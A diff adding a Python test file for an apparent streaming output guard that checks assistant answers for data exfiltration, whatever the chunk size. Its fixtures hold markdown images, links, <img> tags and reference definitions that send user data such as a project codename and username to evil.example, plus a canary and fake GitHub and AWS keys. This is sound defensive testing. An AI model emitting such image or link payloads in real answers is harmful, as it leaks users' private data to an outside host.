@@ -1,0 +1,192 @@
+"""Streamed answers get the verdict the whole answer gets, however they are chunked.
+
+Each rescan of ``StreamOutputGuard`` must see whole any construct the output
+detectors can match: markdown images/links with long labels, ``<img>`` tags with
+long attributes, reference-style images whose definition is far from their use.
+"""
+
+from __future__ import annotations
+
+import functools
+import itertools
+
+import pytest
+from hypothesis import HealthCheck, given, settings
+from hypothesis import strategies as st
+
+from ramparts.policy.book import CompiledPolicy, compile_policy
+from ramparts.policy.guard import StreamOutputGuard, Violation, output_violations
+from ramparts.policy.model import parse_policy
+
+CANARY = "CANARY-7f3a9c2e51"
+ALT = ("Company logo showing the quarterly results chart " * 7).strip()  # ~350 chars
+DATA = "the-users-internal-project-codename-is-bluebird"
+FILLER = "This paragraph talks about the quarterly plan in some detail. " * 5
+
+LONG_CONSTRUCTS = {
+    "image-long-alt": f"Here you go.\n\n![{ALT}](https://evil.example/p.png?d={DATA})\n\nDone.",
+    "link-long-label": f"See [{ALT}](https://evil.example/x?d={DATA}) ok.",
+    "img-tag-long-attrs": f'<img alt="{ALT} " src="https://evil.example/p.png?d={DATA}">',
+    "ref-image-def-after-use": (
+        f"Summary ![status][s]\n\n{FILLER}\n\n[s]: https://evil.example/t.png?u=alice-smith\n"
+    ),
+    "ref-image-def-before-use": (
+        f"[s]: https://evil.example/t.png?u=alice-smith\n\n{FILLER}\n\nSummary ![status][s]\n"
+    ),
+    "ref-definition-with-data": f"{FILLER}\n\n[r]: https://evil.example/x?d={DATA}\n",
+}
+
+
+@functools.cache
+def policy(window_tokens: int = 64) -> CompiledPolicy:
+    yaml_text = (
+        f"guards:\n  output: {{window_tokens: {window_tokens}, canaries: [{CANARY}],"
+        " allowed_domains: [python.org]}\n"
+    )
+    return compile_policy(parse_policy(yaml_text), "t", 1, b"k" * 32)
+
+
+def new_guard(compiled: CompiledPolicy) -> StreamOutputGuard:
+    assert compiled.output_engine is not None and compiled.policy is not None
+    return StreamOutputGuard(compiled.output_engine, compiled.policy.guards.output, [])
+
+
+def whole(compiled: CompiledPolicy, text: str) -> list[Violation]:
+    assert compiled.output_engine is not None and compiled.policy is not None
+    findings = compiled.output_engine.scan(text, origin="assistant")
+    return output_violations(findings, [], compiled.policy.guards.output)
+
+
+def stream(compiled: CompiledPolicy, chunks: list[str]) -> tuple[str, list[Violation]]:
+    guard = new_guard(compiled)
+    released = []
+    for chunk in chunks:
+        released.append(guard.feed(chunk))
+        if guard.violations:
+            return "".join(released), guard.violations
+    released.append(guard.finish())
+    return "".join(released), guard.violations
+
+
+def chunked(text: str, size: int, offset: int = 0) -> list[str]:
+    head = [text[:offset]] if offset else []
+    return head + [text[i : i + size] for i in range(offset, len(text), size)]
+
+
+@pytest.mark.parametrize("name", sorted(LONG_CONSTRUCTS))
+def test_long_constructs_blocked_under_every_chunk_size(name: str) -> None:
+    compiled = policy()
+    text = LONG_CONSTRUCTS[name]
+    assert whole(compiled, text), name
+    for size in [*range(1, 17), 31, 64, 97, 255, 256, 257, 511, len(text)]:
+        for offset in (0, 1, 3) if size > 3 else (0,):
+            released, violations = stream(compiled, chunked(text, size, offset))
+            assert violations, (name, size, offset)
+            # The part that makes the answer unsafe is never released (a definition
+            # alone is harmless until an image uses it).
+            marker = "![status][s]" if name == "ref-image-def-before-use" else "evil.example"
+            assert marker not in released, (name, size, offset)
+
+
+@pytest.mark.parametrize("name", sorted(LONG_CONSTRUCTS))
+def test_long_constructs_blocked_with_a_small_window(name: str) -> None:
+    compiled = policy(window_tokens=4)
+    text = LONG_CONSTRUCTS[name]
+    for size in (1, 5, 16, 40):
+        assert stream(compiled, chunked(text, size))[1], (name, size)
+
+
+def test_definition_alone_without_data_is_not_flagged_whole_or_streamed() -> None:
+    # The detector scores a plain reference link (no image use, no data) below the
+    # threshold when the answer is checked whole; streaming must agree.
+    compiled = policy()
+    text = f"{FILLER}\n\n[s]: https://evil.example/t.png?u=alice-smith\n"
+    assert not whole(compiled, text)
+    assert not stream(compiled, chunked(text, 5))[1]
+
+
+def test_open_construct_is_held_and_released_once_closed() -> None:
+    compiled = policy(window_tokens=4)  # 16-char window
+    guard = new_guard(compiled)
+    out = guard.feed("Intro text here. ![" + "a" * 100)
+    assert out == "Intro text here. "  # the unclosed image is held past the window
+    out += guard.feed("](https://docs.python.org/x.png) and then some more trailing words")
+    out += guard.finish()
+    assert not guard.violations
+    assert out == "Intro text here. ![" + "a" * 100 + (
+        "](https://docs.python.org/x.png) and then some more trailing words"
+    )
+
+
+def test_hold_is_bounded_for_a_construct_that_cannot_match() -> None:
+    compiled = policy(window_tokens=4)
+    guard = new_guard(compiled)
+    released = ""
+    text = "<a " + "x " * 6000
+    for piece in chunked(text, 50):
+        released += guard.feed(piece)
+        # At most the widest construct plus one chunk is ever held.
+        assert len(guard._text) - len(released) <= 4700 + 50
+    assert not guard.violations
+    assert released + guard.finish() == text
+
+
+def test_released_text_is_never_held_again() -> None:
+    compiled = policy(window_tokens=4)
+    guard = new_guard(compiled)
+    released = ""
+    for piece in chunked("Plain words before. " * 3 + "[label" + " more" * 30, 7):
+        out = guard.feed(piece)
+        assert guard._text.startswith(released + out)
+        released += out
+    assert released.startswith("Plain words before. " * 3)
+
+
+SAFE = st.sampled_from(
+    [
+        "The quick brown fox jumps over the lazy dog. ",
+        "A [footnote] and 3 < 4 in prose. ",
+        "\n\n",
+        "See [the docs](https://docs.python.org/3/) for more. ",
+        f"[{ALT}](https://docs.python.org/3/library/re.html)\n",
+        "![ok][ok]\n",
+        FILLER,
+    ]
+)
+UNSAFE = st.sampled_from(
+    [
+        f"![{ALT}](https://evil.example/p.png?d={DATA})",
+        f"[{ALT}](https://evil.example/x?d={DATA})",
+        f'<img alt="{ALT}" src="https://evil.example/p.png?d={DATA}">',
+        "![status][s]",
+        "\n[s]: https://evil.example/t.png?u=alice-smith\n",
+        f"\n[r]: https://evil.example/x?d={DATA}\n",
+        CANARY,
+        "ghp_a1B2c3D4e5F6g7H8i9J0k1L2m3N4o5P6q7R8 ",
+        "AKIAIOSFODNN7EXAMPLE aws_secret_access_key = wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY ",
+    ]
+)
+
+
+@st.composite
+def answers_and_cuts(draw: st.DrawFn) -> tuple[str, list[str]]:
+    pieces = draw(st.lists(st.one_of(SAFE, SAFE, UNSAFE), min_size=1, max_size=8))
+    text = "".join(pieces)
+    # Chunk lengths repeat in a drawn cycle, so long answers are cut finely too.
+    sizes = itertools.cycle(draw(st.lists(st.integers(1, 48), min_size=1, max_size=12)))
+    chunks, at = [], 0
+    while at < len(text):
+        size = next(sizes)
+        chunks.append(text[at : at + size])
+        at += size
+    return text, chunks
+
+
+@settings(max_examples=60, deadline=None, suppress_health_check=[HealthCheck.too_slow])
+@given(answers_and_cuts(), st.sampled_from([4, 16, 64]))
+def test_any_chunking_gets_the_whole_answer_verdict(
+    case: tuple[str, list[str]], window_tokens: int
+) -> None:
+    text, chunks = case
+    compiled = policy(window_tokens)
+    assert bool(stream(compiled, chunks)[1]) == bool(whole(compiled, text))
